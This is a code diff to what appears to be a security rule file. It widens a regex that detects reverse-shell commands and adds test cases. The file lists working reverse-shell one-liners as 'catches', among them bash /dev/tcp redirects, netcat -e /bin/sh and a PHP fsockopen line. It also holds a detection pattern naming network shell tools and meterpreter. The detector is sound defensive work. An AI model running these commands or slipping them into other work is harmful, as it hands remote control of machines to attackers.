@@ -32,14 +32,23 @@ export const TAKEOVER: readonly Rule[] = [
       'msfvenom',
       'net.connect',
     ],
-    pattern: String.raw`/dev/(?:tcp|udp)/[a-z0-9.\x24{"']{1,60}/|(?:nc|ncat|netcat|nc\.exe|nc\.traditional) [^\n;]{0,60}-(?:e|c|[a-z]{1,3}e) {0,2}["']?(?:/bin/|cmd|sh|bash|powershell)|(?:ba|z|k|da)?sh -i[^\n]{0,20}(?:>&|<&|2>&1|>/dev)|mkfifo /?[^\n]{1,40}[;|&][^\n]{0,80}(?:nc|telnet|sh|openssl) |(?:python[23]?|perl|ruby|php|lua|node) [^\n]{0,20}-[a-z]{0,2}[rce] [^\n]{0,200}(?:socket|fsockopen|net\.connect)|use socket;\x24i=|pty\.spawn\(|socat [^\n]{0,80}exec:|tcpclient\([^\n]{1,60}getstream|telnet [^\n|]{1,60}\| {0,2}/?(?:bin/)?(?:ba)?sh|msfvenom -p|windows/(?:x64/)?meterpreter`,
+    pattern: String.raw`(?:[<>]&|<>|&>|exec [^\n/]{0,12}|(?:ba|z|k|da)?sh {0,2}<) {0,2}["']?/dev/(?:tcp|udp)/[a-z0-9.\x24{"']{1,60}/|/dev/(?:tcp|udp)/[a-z0-9.\x24{"']{1,60}/[^\n]{0,60}(?:[0-9]>&|<&|\||-i(?![a-z]))|(?:nc|ncat|netcat|nc\.exe|nc\.traditional) [^\n;]{0,60}-(?:e|c|[a-z]{1,3}e) {0,2}["']?(?:/bin/|cmd|sh|bash|powershell)|(?:ba|z|k|da)?sh -i[^\n]{0,20}(?:>&|<&|2>&1|>/dev)|mkfifo /?[^\n]{1,40}[;|&][^\n]{0,80}(?:nc|telnet|sh|openssl) |(?:python[23]?|perl|ruby|php|lua|node) [^\n]{0,20}-[a-z]{0,2}[rce] [^\n]{0,200}(?:socket|fsockopen|net\.connect)|use socket;\x24i=|pty\.spawn\(|socat [^\n]{0,80}exec:|tcpclient\([^\n]{1,60}getstream|telnet [^\n|]{1,60}\| {0,2}/?(?:bin/)?(?:ba)?sh|msfvenom -p|windows/(?:x64/)?meterpreter`,
     roles,
     catches: [
       'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+      'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5',
+      'cat < /dev/tcp/10.0.0.1/80 | sh',
       'nc -lvp 9001 -e /bin/sh',
       'php -r \'$s=fsockopen("10.0.0.1",1);\'',
     ],
-    passes: ['nc -zv db.example.com 5432', 'Open a socket in Python', 'echo -e hello'],
+    // One way only: whether a port is open, or what is sent to a service.
+    passes: [
+      'nc -zv db.example.com 5432',
+      'Open a socket in Python',
+      'echo -e hello',
+      'timeout 1 bash -c "echo > /dev/tcp/db.example.com/5432" && echo open',
+      "echo -n '{}' > /dev/udp/127.0.0.1/8125",
+    ],
   },
   {
     id: 'command.fetch-and-run',
